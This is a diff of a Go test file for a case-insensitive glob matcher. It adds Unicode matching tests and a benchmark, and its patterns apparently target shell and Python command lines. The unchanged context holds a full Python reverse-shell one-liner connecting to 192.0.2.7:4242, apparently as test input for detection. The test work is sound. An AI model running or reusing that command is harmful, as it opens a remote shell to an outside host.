@@ -39,6 +39,11 @@ func TestMatch(t *testing.T) {
 		{pattern: "*socket*", cased: true, match: []string{"a socket"}, mismatch: []string{"Socket", "ſocket"}},
 		{pattern: "*ÄRGER*", match: []string{"großer ärger"}, mismatch: []string{"arger", "\xc4rger"}},
 		{pattern: "*a*b*c", match: []string{"abc", "AxBxC", "aabbcc"}, mismatch: []string{"ab", "acb", "abcd"}},
+		{pattern: "a*b", match: []string{"ab", "A\xffB"}, mismatch: []string{"a", "b", "ba", "abc"}},
+		{pattern: "aba*aba", match: []string{"abaaba"}, mismatch: []string{"aba", "ababa"}},
+		{pattern: "*ask*risk*", match: []string{"a\u017fk, riſ\u212a"}, mismatch: []string{"risk ask"}},
+		{pattern: "*é*è*", match: []string{"Éè"}, mismatch: []string{"èé", "\xc3\xa8"}},
+		{pattern: "*zb*", match: []string{strings.Repeat("Zz", 50) + "zB"}, mismatch: []string{strings.Repeat("Zz", 50)}},
 		{pattern: "a?c*", match: []string{"abc", "aéc", "a\xffcd"}, mismatch: []string{"ac", "abbc"}},
 		{pattern: "*\xa9*", cased: true, match: []string{"\xa9", "x\xa9"}, mismatch: []string{"é", ""}},
 		{pattern: "*\xc3", match: []string{"x\xc3"}, mismatch: []string{"x\xe3", "xã"}},
@@ -132,6 +137,21 @@ func split(s string) (units []string) {
 
 var commandLine = "python3 -c import os,pty,socket;s=socket.socket();s.connect((\"192.0.2.7\",4242));" +
 	"[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")"
+
+// BenchmarkMatchLong asks about what shells are given to run: kilobytes.
+func BenchmarkMatchLong(b *testing.B) {
+	script := strings.Repeat("for f in *.go; do gofmt -l \"$f\" | sed 's/^/unformatted → /'; done\n", 60)
+	for _, pattern := range []string{"*--encode*", "*import*pty*run*", "*for*xyz*", "* -c * python*"} {
+		b.Run(pattern, func(b *testing.B) {
+			p := Compile(glob(pattern), true)
+			b.SetBytes(int64(len(script)))
+			b.ReportAllocs()
+			for b.Loop() {
+				p.Match(script)
+			}
+		})
+	}
+}
 
 func BenchmarkMatch(b *testing.B) {
 	for _, pattern := range []string{"/usr/bin/python", "/usr/*", "*/sh\")", "*--encode*", "*import*pty*run*", "*zürich*"} {
